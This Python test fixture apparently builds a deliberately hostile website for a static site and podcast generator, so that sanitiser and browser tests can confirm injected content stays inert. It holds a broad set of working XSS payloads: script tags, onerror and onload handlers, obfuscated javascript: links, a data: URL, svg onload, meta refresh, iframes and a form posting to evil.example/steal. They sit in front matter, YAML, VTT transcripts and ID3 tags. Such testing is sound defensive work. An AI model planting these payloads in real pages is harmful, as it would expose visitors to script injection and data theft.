"""A site written by an attacker: script payloads in every field and file type we read.

Every payload, if it ever ran, would call alert() or set window.__pwned (the browser test
traps both); every address points at evil.example (no page may request it or go there).
`MARK` appears in every payload so the output tests can find each one and check that it is
still text.
"""

from __future__ import annotations

import importlib.util
import io
from pathlib import Path

from mutagen.id3 import CHAP, CTOC, ID3, TIT2, WXXX, CTOCFlags
from PIL import Image

HERE = Path(__file__).resolve().parent
MARK = "pwn"
EVIL = "evil.example"
IMG = f"<img src=x onerror=alert('{MARK}-img')>"
SCRIPT = f"\"><script>window.__pwned='{MARK}-script'</script>"
# What a summary looks like when it is written with entities: striptags used to decode it
# into live markup inside <meta content="...">.
ENTITIES = f"&quot;&gt;&lt;img src=x onerror=alert('{MARK}-entities')&gt;"
SVG = f"\"><svg/onload=alert('{MARK}-svg')>"
EVIL_LINK = "https://" + EVIL + "/" + SVG.replace(" ", "")
# In a body an image must exist and have alt text (the build checks both), so the payload
# fires on load instead.
BODY_IMG = f"<img src=/images/ok.png alt=\"ok\" onload=alert('{MARK}-bodyimg')>"


def _load(name: str):
    spec = importlib.util.spec_from_file_location(f"hostile_{name}",
                                                  HERE.parent / "podcast" / f"{name}.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def mp3(seconds: float = 6, chapters: list[tuple[float, str, str]] = ()) -> bytes:
    """A tiny silent MP3; with ID3 chapters (start, title, WXXX url) when given."""
    audio = _load("mpegframes").cbr(seconds)
    if not chapters:
        return audio
    tags = ID3()
    ids = [f"ch{i}" for i in range(len(chapters))]
    tags.add(CTOC(element_id="toc", flags=CTOCFlags.TOP_LEVEL | CTOCFlags.ORDERED,
                  child_element_ids=ids, sub_frames=[]))
    for element, (start, title, url) in zip(ids, chapters, strict=True):
        end = int((start + 1) * 1000)
        tags.add(CHAP(element_id=element, start_time=int(start * 1000), end_time=end,
                      sub_frames=[TIT2(encoding=3, text=[title]),
                                  WXXX(encoding=3, desc="", url=url)]))
    buffer = io.BytesIO()
    tags.save(buffer)
    return buffer.getvalue() + audio


def png(size=(1400, 1400)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (120, 20, 20)).save(buffer, "PNG")
    return buffer.getvalue()


def q(text: str) -> str:
    """A YAML single-quoted scalar."""
    return "'" + text.replace("'", "''") + "'"


# A raw-HTML body with every trick the sanitiser must undo. The external image is left out:
# it is a build error (see FOREIGN_IMAGE_POST), so it has its own negative test.
BODY = f"""
Intro paragraph with [a javascript link](javascript:alert('{MARK}-mdlink')) and
[a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==).

<a href="javascript:alert('{MARK}-rawlink')">raw javascript link</a>
<a href="JaVaScRiPt&#x3a;alert('{MARK}-entitylink')">entity javascript link</a>
<a href=" java&#x09;script:alert('{MARK}-tablink')">tab javascript link</a>

<script>window.__pwned='{MARK}-rawscript'</script>

<img src="/images/ok.png" onload="alert('{MARK}-onload')"
     onerror="alert('{MARK}-onerror')" alt="ok">

<meta http-equiv="refresh" content="0;url=https://{EVIL}/refresh">

<iframe src="https://{EVIL}/frame"></iframe>

<div style="background:url(https://{EVIL}/bg.png)">styled</div>

<form action="https://{EVIL}/steal"><input name="q"><button>Send</button></form>

<svg><script>alert('{MARK}-svgscript')</script></svg>

<object data="https://{EVIL}/x.swf"></object><embed src="https://{EVIL}/x.swf">

<base href="https://{EVIL}/">

<a href="#" data-embed="https://{EVIL}/embed">a fake click-to-load video</a>

<details open ontoggle="alert('{MARK}-toggle')"><summary>more</summary>hidden</details>

Text that talks about &lt;script&gt;alert('{MARK}-text')&lt;/script&gt; stays text.

[{BODY_IMG} The Hobbit](isbn:9780261103344)
"""

FOREIGN_IMAGE_POST = f"""
---
title: Foreign image
date: 2026-01-12
---
Look at this:

<img src="https://{EVIL}/x.png" alt="from elsewhere">
"""

SHOW_YAML = f"""
title: {q("Show " + IMG + SCRIPT)}
description: {q("Description " + IMG + " " + ENTITIES)}
author: {q("Show author " + SVG)}
language: en
owner: {{name: {q("Owner " + IMG)}, email: podcast@test.example.org}}
categories: ["Arts > Books"]
image: cover.png
"""

VTT = f"""WEBVTT

00:00:00.000 --> 00:00:02.000
<v {SVG}>Hello &lt;script&gt;window.__pwned='{MARK}-vtt'&lt;/script&gt;

00:00:02.000 --> 00:00:04.000
&lt;img src=x onerror=alert('{MARK}-vttimg')&gt; and <b>bold</b>
"""


def write_hostile_site(site, *, odd_names: bool = True) -> dict:
    """Write the hostile content into `site` (a tests.sitetools.Site); return what it wrote."""
    audio_name = 'audio/ep"<i>1.mp3' if odd_names else "audio/ep1.mp3"
    image_name = 'images/lead"<b>.png' if odd_names else "images/lead.png"
    site.write(image_name, png((800, 450)))
    site.write("images/ok.png", png((40, 40)))
    site.write("posts/news/hostile.md", f"""
---
title: {q("Post " + IMG + SCRIPT)}
date: 2026-01-10
author: {q("Author " + IMG)}
tags: [{q("Tag " + IMG)}, {q(SVG)}]
summary: {q(ENTITIES + " plain " + IMG + f" [link](javascript:alert('{MARK}-sumlink'))")}
image: {q(image_name)}
image_alt: {q("Alt " + SCRIPT)}
video: https://www.youtube.com/watch?v=dQw4w9WgXcQ
aliases: [{q("/old/" + SVG.replace(" ", "") + ".html")}]
---
{BODY}
""")
    site.write("pages/hostile-page.md", f"""
---
title: {q("Page " + IMG + SCRIPT)}
summary: {q(ENTITIES)}
aliases: ['/old-page/']
---
{BODY}
""")
    site.write("music/hostile-album.md", f"""
---
title: {q("Review " + IMG)}
date: 2026-01-11
album:
  artist: {q("Artist " + SCRIPT)}
  title: {q("Album " + IMG)}
  genres: [{q("Genre " + SVG)}]
  year: 1999
  tracks:
    - {{title: {q("Track " + IMG)}, length: "3:00"}}
---
Review body. {BODY_IMG}
""")
    show = "podcasts/hostile"
    site.write(f"{show}/show.yaml", SHOW_YAML)
    site.write(f"{show}/cover.png", png())
    site.write(f"{show}/{audio_name}", mp3())
    site.write(f"{show}/audio/ep1.vtt", VTT)
    site.write(f"{show}/audio/ep2.mp3", mp3(chapters=[
        (0, f"ID3 chapter {IMG}", f"javascript:alert('{MARK}-wxxx')"),
        (2, f"Second {SCRIPT}", f"https://{EVIL}/\"><script>alert('{MARK}-wxxx2')</script>"),
    ]))
    site.write(f"{show}/ep1.md", f"""
---
title: {q("Episode " + IMG + SCRIPT)}
date: 2026-01-05 10:00
audio: {q(audio_name)}
guid: hostile-guid-1
transcript: audio/ep1.vtt
summary: {q(ENTITIES + " " + IMG)}
persons:
  - {{name: {q("Person " + IMG)}, role: {q("host" + SVG)}, href: {q(EVIL_LINK)}}}
chapters:
  - {{start: "0:00", title: {q("Chapter " + IMG)}}}
  - {{start: "0:02", title: {q("Chapter two " + SCRIPT)}, url: {q(EVIL_LINK)}}}
---
{BODY}
""")
    site.write(f"{show}/ep2.md", """
---
title: Episode with chapters from its audio file
date: 2026-01-06 10:00
audio: audio/ep2.mp3
guid: hostile-guid-2
---
Notes.
""")
    return {"audio": audio_name, "image": image_name}
